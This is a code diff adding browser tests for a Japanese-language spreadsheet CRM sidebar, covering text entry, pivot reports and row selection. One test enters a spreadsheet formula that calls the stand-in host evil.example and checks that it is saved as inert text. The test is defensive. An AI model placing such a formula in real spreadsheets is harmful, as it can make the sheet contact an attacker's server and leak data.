@@ -133,6 +133,42 @@ describe('a week in the playground', () => {
     expect(errors).toEqual([]);
   });
 
+  it('shows a formula that came as text as text, and asks nobody for anything', async () => {
+    const { page } = opened;
+    const formula = '=IMPORTXML("https://evil.example/","//a")';
+    const sidebar = page.frameLocator('[data-testid=sidebar]');
+    await sidebar.locator('#tab-today').click();
+    const next = sidebar.locator('.next');
+    await next.locator('summary').click();
+    await next.locator('textarea').fill(formula);
+    await next.getByRole('button', { name: /完了/ }).click();
+    await sidebar.locator('.notice.good').waitFor();
+    await settled(page);
+    const notes = await columnByHeader(page, '訪問', 'メモ');
+    const row = notes.indexOf(formula) + 2;
+    expect(row).toBeGreaterThan(1);
+    expect(await page.evaluate((at) => window.meguri.extra('訪問', at, 16)?.formula, row)).toBe(undefined);
+  });
+
+  it('shows the pivot tables and charts that the bundle defines', async () => {
+    const { page } = opened;
+    await choose(page, menu.buildReports);
+    const { reports } = generatedTabs;
+    await page.evaluate((name) => window.meguri.activate(name), reports.tab.ja);
+    const charts = page.getByTestId('charts').locator('svg');
+    await charts.first().waitFor();
+    expect(await charts.first().locator('rect, polyline').count()).toBeGreaterThan(0);
+    const names = await page.evaluate((name) => {
+      const values: unknown[] = [];
+      for (let r = 1; r < 60; r += 1)
+        for (let c = 1; c < 30; c += 1) values.push(window.meguri.value(name, r, c));
+      return values;
+    }, reports.tab.ja);
+    // Pivots group by rep, and their sums are numbers.
+    expect(names).toContain('佐藤 美咲');
+    expect(names.filter((cell) => typeof cell === 'number').length).toBeGreaterThan(20);
+  });
+
   it('keeps mails in the outbox, harmless', async () => {
     const { page } = opened;
     await choose(page, menu.previewSummary);
@@ -208,8 +244,27 @@ describe('a long job in the playground', () => {
     expect(await visits()).toEqual(before);
   });
 
+  it('shows in the sidebar the customer whose row is selected in the grid', async () => {
+    const { page } = opened;
+    const ids = await columnByHeader(page, '顧客', 'ID');
+    const names = await columnByHeader(page, '顧客', '顧客名');
+    for (const [tab, header, row] of [
+      ['顧客', 'ID', 4],
+      ['訪問', '顧客ID', 7],
+      ['受注', '顧客ID', 9],
+    ] as const) {
+      const id = (await columnByHeader(page, tab, header))[row - 2];
+      await page.evaluate((name) => window.meguri.activate(name), tab);
+      await page.waitForTimeout(400);
+      const place = (await page.evaluate((at) => window.meguri.place(at, 2), row))!;
+      await page.mouse.click(place.x + 10, place.y + 8);
+      await sidebar.locator('.customer h2', { hasText: String(names[ids.indexOf(id)]) }).waitFor();
+    }
+  });
+
   it('lets people type meanwhile', async () => {
     const { page } = opened;
+    await sidebar.locator('#tab-week').click();
     await sidebar.getByRole('button', { name: words.week.planThis, exact: true }).click();
     await sidebar.locator('.progress').waitFor();
     await page.evaluate(() => window.meguri.type('顧客', 2, 18, 'typed meanwhile'));
